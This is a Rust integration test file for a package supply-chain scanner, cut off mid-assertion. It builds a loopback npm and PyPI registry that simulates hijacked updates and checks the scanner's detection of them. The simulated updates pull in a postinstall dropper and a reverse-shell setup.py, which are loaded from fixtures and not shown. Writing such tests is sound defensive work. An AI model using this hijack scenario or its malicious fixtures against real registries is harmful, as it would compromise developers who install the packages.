//! Registry sources end to end, against a registry served on loopback from fixtures:
//! the hijacked-update scenario in each ecosystem, the verified cache, and an index
//! that is down or answers garbage.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use base64::Engine;
use common::loopback::Loopback;
use common::{customs_with, root, stdout, tar_gz_of};
use serde_json::{Value, json};
use sha2::{Digest, Sha256, Sha512};

const DAY: i64 = 86_400;

fn iso(t: i64) -> String {
    customs_registry::format_rfc3339(t)
}

fn sri(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(Sha512::digest(bytes))
    )
}

fn fixture(path: &str) -> Vec<u8> {
    std::fs::read(root().join("tests/fixtures").join(path)).unwrap()
}

/// Base time of the fixture registry: releases are placed around it.
const T0: i64 = 1_767_225_600; // 2026-01-01

/// One npm version: its package.json and other files, served as a tarball.
fn npm_version(
    server: &Loopback,
    name: &str,
    version: &str,
    manifest: &Value,
    files: &[(&str, &[u8])],
) -> (String, Vec<u8>) {
    let package_json = serde_json::to_vec_pretty(manifest).unwrap();
    let mut all: Vec<(&str, &[u8])> = vec![("package.json", &package_json)];
    all.extend_from_slice(files);
    let tgz = tar_gz_of(&all, "package/");
    let path = format!("/npm/{name}/-/{name}-{version}.tgz");
    server.route(&path, "application/octet-stream", tgz.clone());
    (format!("{}{path}", server.url), tgz)
}

/// The npm side of the fixture registry: `webfetch`, whose 1.0.1 is hijacked, and the
/// dependency that release adds, a day-old package whose postinstall is a dropper.
fn npm_registry(server: &Loopback) {
    let index = b"const ms = require('ms');\nmodule.exports = (url) => fetch(url).then((r) => r.text());\nmodule.exports.timeout = ms('5s');\n";
    let mut versions = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    let releases: [(&str, i64, Value); 5] = [
        ("0.9.4", T0 - 400 * DAY, json!({"ms": "^2.1.0"})),
        ("1.0.0", T0 - 30 * DAY, json!({"ms": "^2.1.0"})),
        ("0.9.5", T0 - 1800, json!({"ms": "^2.1.0"})),
        (
            "1.0.1",
            T0,
            json!({"ms": "^2.1.0", "crypto-helper-js": "^4.2.1"}),
        ),
        ("0.8.0", T0 - 800 * DAY, json!({"ms": "^2.1.0"})),
    ];
    for (version, at, deps) in releases {
        let manifest = json!({"name": "webfetch", "version": version, "main": "index.js", "dependencies": deps});
        let (url, tgz) = npm_version(
            server,
            "webfetch",
            version,
            &manifest,
            &[("index.js", index)],
        );
        let hijacked = version == "1.0.1" || version == "0.9.5";
        let mut doc = json!({
            "name": "webfetch", "version": version, "dependencies": deps,
            "dist": {"tarball": url, "integrity": sri(&tgz), "shasum": "0".repeat(40)},
            "_npmUser": {"name": if hijacked { "mallory" } else { "alice" }, "email": "x@example.invalid"},
            "maintainers": [{"name": "alice"}],
        });
        if !hijacked {
            doc["dist"]["attestations"] = json!({
                "url": format!("{}/npm/-/npm/v1/attestations/webfetch@{version}", server.url),
                "provenance": {"predicateType": "https://slsa.dev/provenance/v1"}
            });
        }
        versions.insert(version.to_owned(), doc);
        time.insert(version.to_owned(), json!(iso(at)));
    }
    let doc = json!({"name": "webfetch", "dist-tags": {"latest": "1.0.1"}, "versions": versions, "time": time});
    server.route(
        "/npm/webfetch",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );

    let manifest: Value =
        serde_json::from_slice(&fixture("malicious-npm-postinstall-dropper/package.json")).unwrap();
    let mut manifest = manifest;
    manifest["name"] = json!("crypto-helper-js");
    let setup = fixture("malicious-npm-postinstall-dropper/setup.js");
    let helper = fixture("malicious-npm-postinstall-dropper/index.js");
    let (url, tgz) = npm_version(
        server,
        "crypto-helper-js",
        "4.2.1",
        &manifest,
        &[("setup.js", &setup), ("index.js", &helper)],
    );
    let doc = json!({
        "name": "crypto-helper-js", "dist-tags": {"latest": "4.2.1"},
        "versions": {"4.2.1": {"name": "crypto-helper-js", "version": "4.2.1", "scripts": {"postinstall": "node setup.js"},
                     "dist": {"tarball": url, "integrity": sri(&tgz)}}},
        "time": {"created": iso(T0 - DAY), "4.2.1": iso(T0 - DAY)}
    });
    server.route(
        "/npm/crypto-helper-js",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
}

fn npm_env(server: &Loopback, cache: &Path) -> Vec<(&'static str, String)> {
    vec![
        ("npm_config_registry", format!("{}/npm/", server.url)),
        ("CUSTOMS_CACHE_DIR", cache.display().to_string()),
    ]
}

/// A test's own store and download cache, in its temporary folder.
fn store_and_cache(dir: &Path) -> Vec<(&'static str, String)> {
    vec![
        (
            "CUSTOMS_STORE",
            dir.join("store.sqlite3").display().to_string(),
        ),
        ("CUSTOMS_CACHE_DIR", dir.join("cache").display().to_string()),
    ]
}

fn run(dir: &Path, args: &[&str], env: &[(&'static str, String)]) -> std::process::Output {
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    customs_with(dir, args, &env)
}

fn json_of(out: &std::process::Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            stdout(out),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn findings<'a>(v: &'a Value, rule: &str) -> Vec<&'a str> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .map(|f| f["message"].as_str().unwrap())
        .collect()
}

#[test]
fn npm_hijacked_update_is_caught() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = npm_env(&server, &dir.path().join("cache"));

    let out = run(
        dir.path(),
        &["scan", "--format", "json", "npm:webfetch"],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json_of(&out);
    common::assert_schema("scan_report", &report);
    let pkg = &report["packages"][0];
    assert_eq!(pkg["version"], "1.0.1", "the latest tag is scanned");
    assert_eq!(pkg["verdict"], "malicious", "{pkg:#}");
    assert_eq!(pkg["history"]["compared_with"], "1.0.0");
    assert_eq!(pkg["source"]["integrity"]["status"], "verified");

    let unused = findings(pkg, "unused-new-dependency");
    assert!(
        unused.iter().any(|m| m.contains("crypto-helper-js")),
        "{unused:?}"
    );
    assert!(
        !unused.iter().any(|m| m.contains("new dependency ms")),
        "ms is required by index.js"
    );
    let dropped = findings(pkg, "provenance-dropped");
    assert!(
        dropped.iter().any(
            |m| m.contains("1.0.1 was published without build provenance")
                && m.contains("1.0.0 had it")
        ),
        "{dropped:?}"
    );
    let publisher = findings(pkg, "new-publisher");
    assert!(
        publisher.iter().any(|m| m.contains("mallory")),
        "{publisher:?}"
    );
    let risky = findings(pkg, "risky-new-dependency");
    assert!(
        risky.iter().any(|m| m.contains("crypto-helper-js@4.2.1")
            && m.contains("malicious")
            && m.contains("postinstall")),
        "{risky:?}"
    );
    let cadence = findings(pkg, "release-cadence");
    assert!(
        cadence.iter().any(|m| m.contains("0.9.5")),
        "two lines within the hour: {cadence:?}"
    );

    // The release before it, on the same line, is clean and carries provenance.
    let out = run(
        dir.path(),
        &["scan", "--format", "json", "npm:webfetch@1.0.0"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let pkg = &json_of(&out)["packages"][0];
    assert_eq!(pkg["verdict"], "clean", "{pkg:#}");
    assert_eq!(pkg["source"]["release"]["provenance"]["status"], "present");

    // Without history the package itself looks clean: its code did not change.
    let out = run(
        dir.path(),
        &[
            "scan",
            "--no-history",
            "--format",
            "json",
            "npm:webfetch@1.0.1",
        ],
        &env,
    );
    assert_eq!(json_of(&out)["packages"][0]["verdict"], "clean");

    // The text report names the dependency, the missing provenance and the publisher.
    let out = run(dir.path(), &["scan", "npm:webfetch@1.0.1"], &env);
    let text = stdout(&out);
    for needle in [
        "crypto-helper-js",
        "without build provenance",
        "mallory",
        "malicious  npm:webfetch@1.0.1",
    ] {
        assert!(text.contains(needle), "{needle:?} missing from:\n{text}");
    }
}

#[test]
fn npm_diff_reports_the_update() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = npm_env(&server, &dir.path().join("cache"));
    let out = run(
        dir.path(),
        &[
            "diff",
            "--format",
            "json",
            "npm:webfetch@1.0.0",
            "npm:webfetch@1.0.1",
        ],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let d = json_of(&out);
    common::assert_schema("diff_report", &d);
    assert_eq!(d["old"]["version"], "1.0.0");
    assert_eq!(d["new"]["version"], "1.0.1");
    assert_eq!(d["verdict"]["level"], "malicious");
    let deps = d["summary"]["dependencies"].as_array().unwrap();
    assert_eq!(deps.len(), 1, "{deps:?}");
    assert_eq!(deps[0]["name"], "crypto-helper-js");
    assert_eq!(deps[0]["old"], Value::Null);
    let changed: Vec<&str> = d["summary"]["files_changed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(changed, ["package.json"], "only the manifest changed");
    let rules: Vec<&str> = d["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for rule in [
        "risky-new-dependency",
        "provenance-dropped",
        "unused-new-dependency",
        "new-publisher",
    ] {
        assert!(rules.contains(&rule), "{rule} missing: {rules:?}");
    }

    // Two local artifacts: the same comparison without the registry's facts.
    let old = dir.path().join("webfetch-1.0.0.tgz");
    let new = dir.path().join("webfetch-1.0.1.tgz");
    std::fs::write(&old, fetch(&server, "/npm/webfetch/-/webfetch-1.0.0.tgz")).unwrap();
    std::fs::write(&new, fetch(&server, "/npm/webfetch/-/webfetch-1.0.1.tgz")).unwrap();
    let out = run(
        dir.path(),
        &[
            "diff",
            "--offline",
            old.to_str().unwrap(),
            new.to_str().unwrap(),
        ],
        &env,
    );
    let text = stdout(&out);
    assert!(text.contains("+ crypto-helper-js ^4.2.1"), "{text}");
    assert!(text.contains("unused-new-dependency"), "{text}");
    assert!(text.contains("verdict on the update: suspicious"), "{text}");
}

/// Reads a path from the loopback registry (the tests' own client, for setup only).
fn fetch(server: &Loopback, path: &str) -> Vec<u8> {
    use std::io::{Read, Write};
    let addr = server.url.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut all = Vec::new();
    s.read_to_end(&mut all).unwrap();
    let split = all.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
    all[split + 4..].to_vec()
}

/// The PyPI side: `pyfetch` 1.0 with provenance, 1.1 without it and with a new
/// requirement that nothing imports, whose sdist's setup.py opens a reverse shell.
fn pypi_registry(server: &Loopback) {
    let sdist = |name: &str, version: &str, requires: &[&str], extra: &[(&str, &[u8])]| {
        let mut pkg_info = format!(
            "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: HTTP helpers\n"
        );
        for r in requires {
            pkg_info.push_str(&format!("Requires-Dist: {r}\n"));
        }
        let setup =
            format!("from setuptools import setup\nsetup(name={name:?}, version={version:?})\n");
        let mut files: Vec<(&str, &[u8])> = vec![
            ("PKG-INFO", pkg_info.as_bytes()),
            ("setup.py", setup.as_bytes()),
        ];
        files.extend_from_slice(extra);
        tar_gz_of(&files, &format!("{name}-{version}/"))
    };
    let init = b"import json\nimport urllib.request\n\ndef get(url):\n    return json.load(urllib.request.urlopen(url))\n";
    let mut files = Vec::new();
    for (version, at, requires, provenance) in [
        ("1.0", T0 - 60 * DAY, vec![], true),
        ("1.1", T0, vec!["crypto-utils-py>=0.1"], false),
    ] {
        let body = sdist(
            "pyfetch",
            version,
            &requires,
            &[("pyfetch/__init__.py", init)],
        );
        let file = format!("pyfetch-{version}.tar.gz");
        server.route(
            &format!("/files/{file}"),
            "application/octet-stream",
            body.clone(),
        );
        let mut entry = json!({
            "filename": file, "url": format!("/files/{file}"),
            "hashes": {"sha256": hex::encode(Sha256::digest(&body))},
            "upload-time": iso(at), "provenance": null,
        });
        if provenance {
            let url = format!("/integrity/pyfetch/{version}/{file}/provenance");
            server.route(&url, "application/json", serde_json::to_vec(&json!({
                "version": 1,
                "attestation_bundles": [{"publisher": {"kind": "GitHub", "repository": "octo/pyfetch", "workflow": "release.yml"}, "attestations": []}]
            })).unwrap());
            entry["provenance"] = json!(url);
        }
        files.push(entry);
    }
    let page = json!({"meta": {"api-version": "1.1"}, "name": "pyfetch", "files": files});
    server.route(
        "/simple/pyfetch/",
        "application/vnd.pypi.simple.v1+json",
        serde_json::to_vec(&page).unwrap(),
    );

    // The dependency: served as PEP 503 HTML, as many mirrors do.
    let stealer = fixture("malicious-py-reverse-shell/setup.py");
    let pkg_info = b"Metadata-Version: 2.1\nName: crypto-utils-py\nVersion: 0.1\n".to_vec();
    let body = tar_gz_of(
        &[("PKG-INFO", &pkg_info), ("setup.py", &stealer)],
        "crypto_utils_py-0.1/",
    );
    server.route(
        "/files/crypto_utils_py-0.1.tar.gz",
        "application/octet-stream",
        body.clone(),
    );
    let html = format!(
        "<!DOCTYPE html><html><body><a href=\"/files/crypto_utils_py-0.1.tar.gz#sha256={}\" data-upload-time=\"{}\">crypto_utils_py-0.1.tar.gz</a></body></html>",
        hex::encode(Sha256::digest(&body)),
        iso(T0 - DAY)
    );
    server.route("/simple/crypto-utils-py/", "text/html", html.into_bytes());
}

#[test]
fn pypi_hijacked_update_is_caught() {
    let server = Loopback::start();
    pypi_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = vec![
        ("PIP_INDEX_URL", format!("{}/simple/", server.url)),
        (
            "CUSTOMS_CACHE_DIR",
            dir.path().join("cache").display().to_string(),
        ),
    ];
    let out = run(
        dir.path(),
        &["scan", "--format", "json", "pypi:pyfetch"],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let report = json_of(&out);
    let pkg = &report["packages"][0];
    assert_eq!(pkg["version"], "1.1");
    assert_eq!(pkg["verdict"], "malicious", "{pkg:#}");
    let dropped = findings(pkg, "provenance-dropped");
    assert!(
        dropped.iter().any(|m| m.contains("1.0 had it")
            && m.contains("octo/pyfetch")
            && m.contains("release.yml")),
        "{dropped:?}"
    );
    let unused = findings(pkg, "unused-new-dependency");
    assert!(
        unused.iter().any(|m| m.contains("crypto-utils-py")),
        "{unused:?}"
    );
    let risky = findings(pkg, "risky-new-dependency");
    assert!(
        risky
            .iter()
            .any(|m| m.contains("crypto-utils-py@0.1") && m.contains("malicious")),
        "{risky:?}"
    );
    assert_eq!(pkg["source"]["release"]["provenance"]["status"], "absent");

    // The clean release before it.
    let out = run(
        dir.path(),
        &["scan", "--format", "json", "pypi:pyfetch==1.0"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert_eq!(json_of(&out)["packages"][0]["verdict"], "clean");
}

#[test]
fn digests_are_enforced_and_the_cache_refuses_tampering() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let env = npm_env(&server, &cache);

    let out = run(
        dir.path(),
        &["scan", "--no-history", "npm:webfetch@1.0.0"],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The artifact cache holds the one verified download (documents are kept beside it).
    let cached: Vec<_> = walk(&cache.join("artifacts"));
    assert_eq!(
        cached.len(),
        1,
        "the verified download is cached: {cached:?}"
    );
    let downloads = server.count("/npm/webfetch/-/webfetch-1.0.0.tgz");
    let out = run(
        dir.path(),
        &["scan", "--no-history", "npm:webfetch@1.0.0"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.0.tgz"),
        downloads,
        "served from the cache"
    );

    // A cached file altered on disk is refused, not re-downloaded, when it is read
    // (--rejudge: the judgement kept for the index's digest would need no read).
    std::fs::write(&cached[0], b"tampered").unwrap();
    let out = run(
        dir.path(),
        &["scan", "--no-history", "--rejudge", "npm:webfetch@1.0.0"],
        &env,
    );
    assert_eq!(out.status.code(), Some(2));
    let err =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("the cache was altered"), "{err}");
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.0.tgz"),
        downloads
    );

    // A download that does not match the index's digest is a critical finding.
    let doc = json!({
        "name": "swapped", "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {"dist": {"tarball": format!("{}/npm/webfetch/-/webfetch-1.0.0.tgz", server.url), "integrity": sri(b"other bytes")}}},
        "time": {"1.0.0": iso(T0)}
    });
    server.route(
        "/npm/swapped",
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    let out = run(
        dir.path(),
        &["scan", "--format", "json", "npm:swapped"],
        &env,
    );
    assert_eq!(out.status.code(), Some(1));
    let pkg = &json_of(&out)["packages"][0];
    assert_eq!(pkg["verdict"], "malicious");
    assert_eq!(pkg["source"]["integrity"]["status"], "mismatch");
    assert_eq!(
        findings(pkg, "artifact-digest-mismatch").len(),
        1,
        "{pkg:#}"
    );
    assert_eq!(
        walk(&cache.join("artifacts")).len(),
        1,
        "a mismatching download is never cached"
    );
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn unreachable_and_garbage_indexes_are_clear_errors() {
    let server = Loopback::start();
    server.route(
        "/npm/broken",
        "text/html",
        b"<html>maintenance</html>".to_vec(),
    );
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache").display().to_string();
    // A port nothing listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}/npm/", closed.local_addr().unwrap());
    drop(closed);
    let out = run(
        dir.path(),
        &["scan", "npm:anything", "--registry", &dead],
        &[("CUSTOMS_CACHE_DIR", cache.clone())],
    );
    assert_eq!(out.status.code(), Some(2));
    let text = stdout(&out);
    assert!(
        text.contains("cannot reach the index") && text.contains(dead.trim_end_matches('/')),
        "{text}"
    );

    // No pip on PATH to ask, and no configuration: PyPI is not configured.
    let env = vec![
        ("npm_config_registry", format!("{}/npm/", server.url)),
        ("CUSTOMS_CACHE_DIR", cache),
        ("PATH", String::new()),
    ];
    let out = run(
        dir.path(),
        &["scan", "npm:broken", "npm:missing", "pypi:x"],
        &env,
    );
    assert_eq!(out.status.code(), Some(2));
    let text = stdout(&out);
    assert!(
        text.contains("npm:broken") && text.contains("garbage"),
        "{text}"
    );
    assert!(text.contains("not found on the index"), "{text}");
    assert!(text.contains("no pypi index is configured"), "{text}");
}

#[test]
fn registry_and_local_targets_mix() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = npm_env(&server, &dir.path().join("cache"));
    let local = root().join("tests/fixtures/benign-npm-cli");
    let out = run(
        dir.path(),
        &[
            "scan",
            "--format",
            "json",
            local.to_str().unwrap(),
            "npm:webfetch@1.0.0",
            "npm:crypto-helper-js",
        ],
        &env,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "the dependency itself is malicious"
    );
    let r = json_of(&out);
    let verdicts: Vec<(&str, &str)> = r["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["target"].as_str().unwrap(),
                p["verdict"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(verdicts.len(), 3, "{verdicts:?}");
    assert_eq!(
        verdicts[0],
        (local.to_str().unwrap(), "clean"),
        "results keep the targets' order"
    );
    assert_eq!(verdicts[1], ("npm:webfetch@1.0.0", "clean"));
    assert_eq!(verdicts[2], ("npm:crypto-helper-js@4.2.1", "malicious"));
    assert!(
        r["packages"][0].get("source").is_none(),
        "local targets have no source"
    );
    assert_eq!(
        r["packages"][2]["history"]["note"],
        "4.2.1 is the first release of crypto-helper-js: nothing to compare"
    );
}

/// A package published `age` seconds before now, with the given manifest scripts.
fn npm_package_at(
    server: &Loopback,
    name: &str,
    version: &str,
    age: i64,
    scripts: Value,
    files: &[(&str, &[u8])],
) -> String {
    let manifest =
        json!({"name": name, "version": version, "main": "index.js", "scripts": scripts});
    let (url, tgz) = npm_version(server, name, version, &manifest, files);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let doc = json!({
        "name": name, "dist-tags": {"latest": version},
        "versions": {version: {"name": name, "version": version, "scripts": scripts, "dist": {"tarball": url, "integrity": sri(&tgz)}}},
        "time": {"created": iso(now - age), version: iso(now - age)}
    });
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    sri(&tgz)
}

fn integrity_of(server: &Loopback, name: &str, version: &str) -> String {
    sri(&fetch(
        server,
        &format!("/npm/{name}/-/{name}-{version}.tgz"),
    ))
}

/// A project with a package-lock.json (v3) naming `deps` (name, version, integrity,
/// direct, requires).
fn npm_project(dir: &Path, deps: &[(&str, &str, String, bool, &[&str])]) {
    let mut packages = serde_json::Map::new();
    let direct: serde_json::Map<String, Value> = deps
        .iter()
        .filter(|d| d.3)
        .map(|d| (d.0.to_owned(), json!(d.1)))
        .collect();
    packages.insert(
        "".into(),
        json!({"name": "app", "version": "1.0.0", "dependencies": direct}),
    );
    for (name, version, integrity, _, requires) in deps {
        let req: serde_json::Map<String, Value> = requires
            .iter()
            .map(|r| ((*r).to_owned(), json!("*")))
            .collect();
        packages.insert(
            format!("node_modules/{name}"),
            json!({"version": version, "resolved": format!("http://127.0.0.1/npm/{name}/-/{name}-{version}.tgz"), "integrity": integrity, "dependencies": req}),
        );
    }
    let lock =
        json!({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": packages});
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("package-lock.json"),
        serde_json::to_string_pretty(&lock).unwrap(),
    )
    .unwrap();
}

fn by_name<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap_or_else(|| panic!("{name} not in {report:#}"))
}

#[test]
fn audit_npm_project_with_the_loopback_registry() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    let project = dir.path().join("app");
    npm_project(
        &project,
        &[
            (
                "webfetch",
                "1.0.1",
                integrity_of(&server, "webfetch", "1.0.1"),
                true,
                &["crypto-helper-js"],
            ),
            (
                "crypto-helper-js",
                "4.2.1",
                integrity_of(&server, "crypto-helper-js", "4.2.1"),
                false,
                &[],
            ),
            ("event-stream", "3.3.6", sri(b"never downloaded"), true, &[]),
        ],
    );
    let out = run(dir.path(), &["audit", "app", "--format", "json"], &env);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}{}",
        stdout(&out),
        String::from_utf8_lossy(&out.stderr)
    );
    let r = json_of(&out);
    common::assert_schema("audit_report", &r);
    let helper = by_name(&r, "crypto-helper-js");
    assert_eq!(helper["verdict"], "malicious");
    audit_ignores(dir.path(), &env, helper);
    assert_eq!(helper["policy"]["decision"], "block");
    assert_eq!(
        helper["dependency_path"],
        json!(["webfetch", "crypto-helper-js"])
    );
    assert_eq!(helper["direct"], false);
    let webfetch = by_name(&r, "webfetch");
    assert_eq!(
        webfetch["verdict"], "malicious",
        "history judges the hijacked release"
    );
    assert!(
        webfetch["locations"][0]["path"]
            .as_str()
            .unwrap()
            .ends_with("package-lock.json")
    );
    let es = by_name(&r, "event-stream");
    assert_eq!(es["verdict"], "malicious");
    assert_eq!(es["findings"][0]["rule"], "known-malicious");
    assert_eq!(
        server.count("/npm/event-stream"),
        0,
        "known malware is not downloaded"
    );

    // The text names the chain that brings the dropper in.
    let out = run(dir.path(), &["audit", "app"], &env);
    let text = stdout(&out);
    assert!(text.contains("via webfetch > crypto-helper-js"), "{text}");
    assert!(text.contains("3 dependencies"), "{text}");

    // SARIF points at the lockfile line that names each blocked dependency.
    let out = run(dir.path(), &["audit", "app", "--format", "sarif"], &env);
    let s = json_of(&out);
    let lock_text = std::fs::read_to_string(project.join("package-lock.json")).unwrap();
    let es_line = lock_text
        .lines()
        .position(|l| l.contains("\"node_modules/event-stream\""))
        .unwrap()
        + 1;
    let results = s["runs"][0]["results"].as_array().unwrap();
    assert!(
        results.iter().any(|res| {
            res["ruleId"] == "known-malicious"
                && res["locations"][0]["physicalLocation"]["region"]["startLine"] == es_line
                && res["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    .as_str()
                    .unwrap()
                    .ends_with("package-lock.json")
        }),
        "{results:#?}"
    );

    // Offline: what is in the cache is scanned again; the rest is said to be unchecked;
    // the registry is not asked.
    let before = server.hits.lock().unwrap().len();
    let out = run(
        dir.path(),
        &["audit", "app", "--offline", "--format", "json"],
        &env,
    );
    let r = json_of(&out);
    assert_eq!(
        server.hits.lock().unwrap().len(),
        before,
        "offline means no request"
    );
    assert_eq!(
        by_name(&r, "crypto-helper-js")["verdict"],
        "malicious",
        "scanned from the cache"
    );
    assert_eq!(
        by_name(&r, "event-stream")["verdict"],
        "malicious",
        "from the store"
    );
}

#[test]
fn audit_policy_cases() {
    let server = Loopback::start();
    npm_registry(&server);
    let fresh = npm_package_at(
        &server,
        "fresh-lib",
        "2.0.0",
        86_400,
        json!({}),
        &[("index.js", b"module.exports = 1;\n")],
    );
    let addon = npm_package_at(
        &server,
        "native-addon",
        "1.0.0",
        400 * 86_400,
        json!({"install": "node-gyp rebuild"}),
        &[
            (
                "index.js",
                b"module.exports = require('./build/Release/addon.node');\n",
            ),
            (
                "binding.gyp",
                b"{\"targets\": [{\"target_name\": \"addon\", \"sources\": [\"addon.cc\"]}]}\n",
            ),
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let mut env = npm_env(&server, &dir.path().join("cache"));
    env.push((
        "CUSTOMS_STORE",
        dir.path().join("store.sqlite3").display().to_string(),
    ));
    let project = dir.path().join("app");
    npm_project(
        &project,
        &[
            ("fresh-lib", "2.0.0", fresh, true, &[]),
            ("native-addon", "1.0.0", addon, true, &[]),
            (
                "webfetch",
                "1.0.0",
                integrity_of(&server, "webfetch", "1.0.0"),
                true,
                &[],
            ),
        ],
    );
    // The default policy: nothing blocks.
    let out = run(dir.path(), &["audit", "app"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));

    let decide = |policy: &str| {
        std::fs::write(project.join("customs.toml"), policy).unwrap();
        let out = run(dir.path(), &["audit", "app", "--format", "json"], &env);
        let r = json_of(&out);
        let d = |n: &str| {
            by_name(&r, n)["policy"]["decision"]
                .as_str()
                .unwrap()
                .to_owned()
        };
        (
            out.status.code(),
            d("fresh-lib"),
            d("native-addon"),
            d("webfetch"),
            r,
        )
    };
    let (code, fresh, addon, web, r) = decide("min_release_age = \"7d\"\n");
    assert_eq!(
        (code, fresh.as_str(), addon.as_str(), web.as_str()),
        (Some(1), "block", "allow", "allow")
    );
    let reason = by_name(&r, "fresh-lib")["policy"]["reasons"][0]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(reason.contains("minimum release age of 7 days"), "{reason}");
    let (_, fresh, ..) =
        decide("min_release_age = \"7d\"\nmin_release_age_exempt = [\"npm:fresh-*\"]\n");
    assert_eq!(fresh, "allow");

    let (code, _, addon, ..) = decide("[install_scripts]\nallow = false\n");
    assert_eq!((code, addon.as_str()), (Some(1), "block"));
    let (code, _, addon, ..) =
        decide("[install_scripts]\nallow = false\npackages = [\"native-addon\"]\n");
    assert_eq!((code, addon.as_str()), (Some(0), "allow"));

    let (code, .., web, _) = decide("deny = [\"npm:webfetch@1.0.0\"]\n");
    assert_eq!((code, web.as_str()), (Some(1), "block"));

    std::fs::write(project.join("customs.toml"), "fail_on = \"sometimes\"\n").unwrap();
    let out = run(dir.path(), &["audit", "app"], &env);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("customs.toml"),
        "the error names the policy file"
    );
}

#[test]
fn audit_python_hashes_and_the_store() {
    let server = Loopback::start();
    pypi_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.sqlite3").display().to_string();
    let env = vec![
        ("PIP_INDEX_URL", format!("{}/simple/", server.url)),
        (
            "CUSTOMS_CACHE_DIR",
            dir.path().join("cache").display().to_string(),
        ),
        ("CUSTOMS_STORE", store.clone()),
    ];
    let good = hex::encode(Sha256::digest(fetch(&server, "/files/pyfetch-1.0.tar.gz")));
    let project = dir.path().join("py");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("requirements.txt"),
        format!("pyfetch==1.0 --hash=sha256:{good}\n"),
    )
    .unwrap();
    let out = run(dir.path(), &["audit", "py", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));

    // A hash the index does not list.
    std::fs::write(
        project.join("requirements.txt"),
        format!("pyfetch==1.0 --hash=sha256:{}\n", "0".repeat(64)),
    )
    .unwrap();
    let out = run(dir.path(), &["audit", "py", "--format", "json"], &env);
    assert_eq!(out.status.code(), Some(1));
    let r = json_of(&out);
    let p = by_name(&r, "pyfetch");
    assert!(
        p["findings"]
            .as_array()
